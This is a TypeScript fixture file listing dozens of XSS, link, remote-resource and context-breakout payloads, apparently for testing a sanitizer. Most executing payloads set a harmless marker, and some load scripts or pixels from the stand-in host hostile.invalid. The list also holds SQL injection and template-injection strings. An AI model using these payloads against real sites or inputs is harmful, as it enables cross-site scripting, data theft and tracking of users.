/** Fragments of markup and script, each of which would do something if it were ever taken for more than text. */

/** What a fragment does if it runs: it says so in the page's title and asks for something from outside. */
const MARK = "window.__pwned=1";

const handlers = [
  `<img src=x onerror="${MARK}">`,
  `<svg onload="${MARK}">`,
  `<body onload="${MARK}">`,
  `<details open ontoggle="${MARK}">x</details>`,
  `<input autofocus onfocus="${MARK}">`,
  `<video><source onerror="${MARK}"></video>`,
  `<marquee onstart="${MARK}">x</marquee>`,
  `<div onpointerenter="${MARK}" style="position:fixed;inset:0">x</div>`,
  `<select autofocus onfocus="${MARK}">`,
  `<audio src onloadstart="${MARK}">`,
  `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="${MARK}">x</b>`,
];
const scripts = [
  `<script>${MARK}</script>`,
  `</script><script>${MARK}</script>`,
  `<script src="//hostile.invalid/x.js"></script>`,
  `<svg><script>${MARK}</script></svg>`,
  `<iframe srcdoc="<script>parent.${MARK}</script>"></iframe>`,
  `<object data="data:text/html,<script>${MARK}</script>"></object>`,
  `<embed src="javascript:${MARK}">`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${MARK}">`,
  `<noscript><p title="</noscript><img src=x onerror=${MARK}>">`,
  `<template><script>${MARK}</script></template>`,
];
const links = [
  `javascript:${MARK}`,
  ` java\u0000script:${MARK}`,
  `data:text/html,<script>${MARK}</script>`,
  `<a href="javascript:${MARK}">x</a>`,
  `<form action="javascript:${MARK}"><button autofocus>x</button></form>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${MARK}">`,
  `<base href="//hostile.invalid/">`,
  `<link rel="stylesheet" href="//hostile.invalid/x.css">`,
  `<link rel="prefetch" href="//hostile.invalid/">`,
];
const requests = [
  `<img src="//hostile.invalid/pixel.png">`,
  `<img srcset="//hostile.invalid/pixel.png 1x">`,
  `<style>@import "//hostile.invalid/x.css";body{background:url(//hostile.invalid/b)}</style>`,
  `url("//hostile.invalid/b")`,
  `<svg><image href="//hostile.invalid/i"/><use href="//hostile.invalid/u#x"/></svg>`,
  `<video poster="//hostile.invalid/p" src="//hostile.invalid/v"></video>`,
  `<iframe src="//hostile.invalid/"></iframe>`,
  `![x](//hostile.invalid/md.png)`,
  `[x](javascript:${MARK})`,
];
const breakouts = [
  `"><img src=x onerror="${MARK}">`,
  `'><img src=x onerror='${MARK}'>`,
  `--><img src=x onerror="${MARK}"><!--`,
  `]]><img src=x onerror="${MARK}">`,
  "`${" + MARK + "}`",
  "{{constructor.constructor('" + MARK + "')()}}",
  "{@html '<img src=x onerror=" + MARK + ">'}",
  "${alert(1)}",
  "</title></textarea></style><img src=x onerror=" + MARK + ">",
  "\u202etxt.exe\u202c",
  "\u0000\u0007\u001b[31mred\u001b[0m",
  "%3Cscript%3E" + MARK + "%3C/script%3E",
  "&lt;script&gt;" + MARK + "&lt;/script&gt;",
  "__proto__",
  "constructor",
  "'; drop table message; --",
  '-->\'"/></sCript><svG x=">" onload=(' + MARK + ")``>",
];

export const FRAGMENTS: readonly string[] = [
  ...handlers,
  ...scripts,
  ...links,
  ...requests,
  ...breakouts,
];
